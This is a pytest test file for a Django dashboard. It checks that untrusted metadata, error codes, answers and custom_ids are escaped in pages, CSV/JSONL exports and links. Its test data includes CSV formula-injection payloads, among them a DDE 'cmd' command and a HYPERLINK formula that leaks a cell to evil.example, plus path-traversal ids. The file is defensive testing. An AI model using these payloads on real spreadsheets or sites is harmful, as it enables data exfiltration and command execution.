"""What the dashboard receives (metadata, error codes and answers from result files, custom_ids) reaches the pages,
the exports and the links as data, never as template names, spreadsheet formulas, extra lines or other URLs
(issue 18, findings 2, 3 and 8)."""

import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import urljoin

import pytest
from django.apps import apps
from django.conf import settings
from django.db import connection
from django.http import QueryDict
from django.urls import reverse

from batches import services
from batches.models import record_batch
from tests.batch_api import payload
from tests.conftest import kept_batch

# Names a template would take for a method of the dict, or for the dict's class, if it looked them up on it.
WORDS = ("items", "keys", "values", "get", "pop", "__class__")
CODES = ("items", "keys", "values")


def _metadata() -> dict[str, str]:
    return {word: f"<b>{word}</b> & co" for word in WORDS}


def _escaped(word: str) -> str:
    return f"&lt;b&gt;{word}&lt;/b&gt; &amp; co"


@pytest.fixture
def hostile_batch(tmp_path):
    """A kept batch whose metadata keys and error codes are the names of dict methods."""
    outcomes = {"ok-1": "ok", **{f"code-{code}": (400, code) for code in CODES}, "gone": "missing"}
    return kept_batch(outcomes, tmp_path, metadata=_metadata())


def _page(client, url, **query):
    response = client.get(url, query)
    assert response.status_code == 200, (url, response.status_code)
    return response


@pytest.mark.django_db
def test_finding_2_metadata_keys_named_like_dict_methods_break_no_page(hostile_batch, operator_client):
    batch_id = hostile_batch.batch_id
    pages = {
        "list": _page(operator_client, reverse("batches:list")),
        "list search": _page(operator_client, reverse("batches:list"), q="items"),
        "detail": _page(operator_client, reverse("batches:detail", args=[batch_id])),
        "detail fragment": operator_client.get(reverse("batches:detail", args=[batch_id]), headers={"HX-Request": "1"}),
        "retry confirmation": _page(operator_client, reverse("retries:confirm", args=[batch_id]), select="failed"),
    }
    for name, response in pages.items():
        assert response.status_code in (200, 286), name
        text = response.content.decode()
        assert "<b>" not in text, name  # escaped wherever it is shown
    detail = pages["detail"].content.decode()
    for word in WORDS:
        assert f"<dt>{word}</dt><dd>{_escaped(word)}</dd>" in detail
    confirmation = pages["retry confirmation"].content.decode()
    assert 'id="retry-count">3</strong>' in confirmation
    for word in WORDS:
        assert f"{word}={_escaped(word)}" in confirmation
    listed = pages["list"].content.decode()
    assert f"items={_escaped('items')}" in listed  # the row's tooltip names every pair
    assert "matched </span>items: " + _escaped("items") in pages["list search"].content.decode()


def _project_templates() -> list:
    """Every template of the project: the shared folder and each of its own apps' (not those of installed packages)."""
    folders = [Path(settings.BASE_DIR) / "templates"]
    folders += [
        Path(app.path) / "templates"
        for app in apps.get_app_configs()
        # The project's apps: the virtualenv may live inside the checkout too (make's .venv).
        if Path(app.path).is_relative_to(settings.BASE_DIR) and "site-packages" not in Path(app.path).parts
    ]
    return [path for folder in folders for path in sorted(folder.rglob("*.html"))]


def test_finding_2_no_template_looks_up_a_dict_method():
    """Outside keys shadow a dict's methods in a template lookup (`{{ metadata.items }}` is the value of the key
    "items" if there is one): templates get lists of pairs instead, and this keeps it so."""
    lookup = re.compile(r"\.(items|keys|values|get|pop)\b")
    templates = _project_templates()
    assert len(templates) > 30
    offenders = []
    for path in templates:
        for tag in re.findall(r"{[{%].*?[}%]}", path.read_text(), re.DOTALL):
            if lookup.search(tag):
                offenders.append(f"{path.relative_to(settings.BASE_DIR)}: {tag}")
    assert offenders == []


@pytest.mark.django_db
def test_finding_2_a_running_batch_with_such_metadata_can_be_seen_and_cancelled(operator_client, fresh_cache):
    running = record_batch(services.ApiBatch.from_api(payload("in_progress", metadata=_metadata())))
    for url in (
        reverse("batches:list"),
        reverse("batches:detail", args=[running.batch_id]),
        reverse("batches:cancel", args=[running.batch_id]),
        reverse("batches:bulk_cancel") + f"?batch_id={running.batch_id}",
    ):
        text = _page(operator_client, url).content.decode()
        assert "<b>" not in text, url
        assert re.search(r"&lt;b&gt;\w+&lt;/b&gt; &amp; co", text), url  # a pair, escaped (which ones: by length)


@pytest.mark.django_db
def test_finding_2_error_codes_named_like_dict_methods_break_no_page(hostile_batch, operator_client):
    batch_id = hostile_batch.batch_id
    results = _page(operator_client, reverse("results:list", args=[batch_id]))
    text = results.content.decode()
    for code in CODES:
        assert f'<option value="{code}">{code} (1)</option>' in text
    filtered = _page(operator_client, reverse("results:list", args=[batch_id]), code="items")
    assert [line.custom_id for line in filtered.context["page"]] == ["code-items"]

    final = _page(operator_client, reverse("retries:final", args=[batch_id])).content.decode()
    assert 'id="final-failing">4</strong>' in final and "(failed 3, missing 1)" in final

    for line in results.context["page"]:
        request_page = _page(operator_client, line.url).content.decode()
        assert "<b>" not in request_page
        if line.custom_id.startswith("code-"):
            assert f"<code>{line.error_code}</code>" in request_page

    detail = _page(operator_client, reverse("batches:detail", args=[batch_id])).content.decode()
    for code in CODES:
        assert f"<code>{code}</code>" in detail  # the detail page's error groups
    confirmation = _page(operator_client, reverse("retries:confirm", args=[batch_id]), select="filter", code="keys")
    assert 'id="retry-count">1</strong>' in confirmation.content.decode()


# --- Finding 3: CSV formula injection -------------------------------------------------------------------------------

FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1)", "-1+1")
ANSWERS = {"link": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "tab": "\t=1+2", "cr": "\r=1+3"}


def _csv(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_finding_3_exported_cells_never_start_a_formula(tmp_path, viewer_client):
    outcomes = {formula: "ok" for formula in FORMULAS}
    outcomes |= {name: ("ok", answer) for name, answer in ANSWERS.items()} | {"plain": ("ok", "1+1")}
    batch = kept_batch(outcomes, tmp_path)
    exports = {
        "export.csv": viewer_client.get(reverse("results:export_csv", args=[batch.batch_id])),
        "final.csv": viewer_client.get(reverse("retries:final_csv", args=[batch.batch_id])),
    }
    for name, response in exports.items():
        rows = _csv(response)
        expected_ids = ["'" + formula for formula in FORMULAS] + [*ANSWERS, "plain"]
        assert [row["custom_id"] for row in rows] == expected_ids, name
        answers = {row["custom_id"]: row["answer"] for row in rows}
        assert {key: answers[key] for key in ANSWERS} == {key: "'" + answer for key, answer in ANSWERS.items()}, name
        assert answers["plain"] == "1+1" and answers["'-1+1"] == "answer to -1+1", name
        assert [row["line"] for row in rows] == [str(n) for n in range(1, 9)], name  # numbers stay numbers
        assert {row["tokens"] for row in rows} == {"8"}, name


# --- Finding 8: a raw "\r" in a result line, custom_ids in links ----------------------------------------------------

FORGED = {"line": 1, "custom_id": "forged", "outcome": "succeeded", "input": None, "result": None}


def _answer_line(custom_id: str, text: str) -> dict:
    body = {"object": "chat.completion", "choices": [{"message": {"content": text}}]}
    return {"id": "r", "custom_id": custom_id, "response": {"status_code": 200, "request_id": "q", "body": body}}


def _forging_line(custom_id: str) -> bytes:
    """A result line that is valid JSON, with a raw "\\r" (whitespace between tokens) around a whole JSON object."""
    record = json.dumps(_answer_line(custom_id, "fine"))[:-1]
    return f'{record}, "error": null, "padding":\r{json.dumps(FORGED)}\r}}'.encode()


@pytest.mark.django_db
def test_finding_8_a_raw_carriage_return_in_a_result_line_forges_no_exported_line(tmp_path, viewer_client):
    separators = "a\u2028b\u2029c\x85d"
    outcomes = {
        "cr": _forging_line("cr"),
        "separators": json.dumps(_answer_line("separators", separators), ensure_ascii=False).encode(),
        "big": b'{"custom_id": "big", "response": {"status_code": 200, "body": {"n": 1e400, "x": 1.10}}}',
        "plain": "ok",
    }
    batch = kept_batch(outcomes, tmp_path)
    exports = {
        "export.jsonl": viewer_client.get(reverse("results:export_jsonl", args=[batch.batch_id])),
        "final.jsonl": viewer_client.get(reverse("retries:final_jsonl", args=[batch.batch_id])),
    }
    for name, response in exports.items():
        content = b"".join(response.streaming_content)
        as_text = io.TextIOWrapper(io.BytesIO(content), encoding="utf-8")  # universal newlines: "\r" ends a line
        for lines in (list(as_text), content.decode().splitlines(), content.split(b"\n")[:-1]):
            records = [json.loads(line) for line in lines]
            assert [record["custom_id"] for record in records] == list(outcomes), name
        by_id = {record["custom_id"]: record for record in records}
        assert by_id["cr"]["outcome"] == "succeeded", name
        assert by_id["cr"]["result"]["padding"] == FORGED, name  # inside its own line, as data
        answer = by_id["separators"]["result"]["response"]["body"]["choices"][0]["message"]["content"]
        assert answer == separators, name
        assert b'"n": 1e400, "x": 1.10' in content, name  # numbers as written, not re-printed by Python
        assert by_id["plain"]["input"]["custom_id"] == "plain", name


@pytest.mark.django_db
def test_finding_8_a_stored_line_that_is_not_json_is_exported_as_a_string():
    from results.exports import jsonl_line

    line = jsonl_line({"custom_id": "x"}, b'{"custom_id": "x"}', b'{"half": \r{"forged": 1}\r')
    assert line.count(b"\n") == 1 and b"\r" not in line
    assert json.loads(line) == {"custom_id": "x", "input": {"custom_id": "x"}, "result": '{"half": \r{"forged": 1}\r'}


HOSTILE_IDS = (
    "../../../../admin/",
    "..",
    ".",
    "",
    "a/b",
    "x%2Fy",
    "what?page=2",
    "top#frag",
    "17",
    "rows/1",
    "%2e%2e",
    "e\u0301" * 300,  # 600 characters: longer than a custom_id is kept
    "<b>bold</b>",
)


def _spaced(ids) -> dict[str, object]:
    """Each id failing with an error code of its own (a group each), at an even line: the builder writes odd lines
    by hand, so they take only plain ids."""
    outcomes: dict[str, object] = {}
    for number, custom_id in enumerate(ids):
        if len(outcomes) % 3 == 1:
            outcomes[f"filler-{number}"] = "ok"
        outcomes[custom_id] = (400, f"code_{number}")
    return outcomes


ROW_PATH = re.compile(r"^/batches/batch_\w+/results/rows/\d+/$")


def _resolves_to_its_row(client, page_url: str, href: str, row) -> None:
    """A row's link, resolved as a browser would against the page it is on, opens that row's own page."""
    resolved = urljoin(f"http://testserver{page_url}", href.replace("&amp;", "&"))
    path, _, query = resolved.removeprefix("http://testserver").partition("?")
    assert ROW_PATH.match(path), (row.custom_id, href)
    response = client.get(path, QueryDict(query))
    assert response.status_code == 200, (row.custom_id, href)
    shown = response.context["line"]
    assert (shown.position, shown.custom_id) == (row.position, row.custom_id)
    assert "<b>bold</b>" not in response.content.decode()


@pytest.mark.django_db
def test_finding_8_every_custom_id_links_to_its_own_row(tmp_path, viewer_client, fresh_cache):
    outcomes = _spaced(HOSTILE_IDS)
    batch = kept_batch(outcomes, tmp_path)
    results_url = reverse("results:list", args=[batch.batch_id])
    results = viewer_client.get(results_url)
    rows = list(results.context["page"])
    assert len(rows) == len(outcomes)
    assert {row.custom_id for row in rows} >= {custom_id[:512] for custom_id in HOSTILE_IDS}
    html = results.content.decode()
    for row in rows:
        assert f'href="{row.url}"' in html
        _resolves_to_its_row(viewer_client, results_url, row.url, row)

    final_url = reverse("retries:final", args=[batch.batch_id])
    final = viewer_client.get(final_url)
    for merged_row in final.context["page"]:
        _resolves_to_its_row(viewer_client, final_url, merged_row.url, merged_row.line)

    # The error groups' examples know only custom_ids: they are looked up, whatever the id holds.
    detail_url = reverse("batches:detail", args=[batch.batch_id])
    detail = viewer_client.get(detail_url).content.decode()
    examples = re.findall(r'href="([^"]*/results/rows/\?custom_id=[^"]*)"', detail)
    looked_up = set()
    for href in examples:
        lookup = viewer_client.get(urljoin(f"http://testserver{detail_url}", href.replace("&amp;", "&")))
        assert lookup.status_code == 302, href
        row = next(row for row in rows if row.position == int(lookup["Location"].split("?")[0].split("/")[-2]))
        _resolves_to_its_row(viewer_client, detail_url, lookup["Location"], row)
        looked_up.add(row.custom_id)
    assert looked_up == {custom_id[:512] for custom_id in HOSTILE_IDS}


@pytest.mark.django_db
def test_finding_8_a_custom_id_holding_nul_links_to_its_own_row(tmp_path, viewer_client, fresh_cache):
    if connection.vendor == "postgresql":
        pytest.skip("PostgreSQL stores no NUL: the archive strips it (finding 5), so no stored custom_id holds one")
    batch = kept_batch({"a\x00b": (400, "bad"), "plain": "ok", "\x00": "missing"}, tmp_path)
    results_url = reverse("results:list", args=[batch.batch_id])
    rows = list(viewer_client.get(results_url).context["page"])
    assert len(rows) == 3
    for row in rows:
        _resolves_to_its_row(viewer_client, results_url, row.url, row)
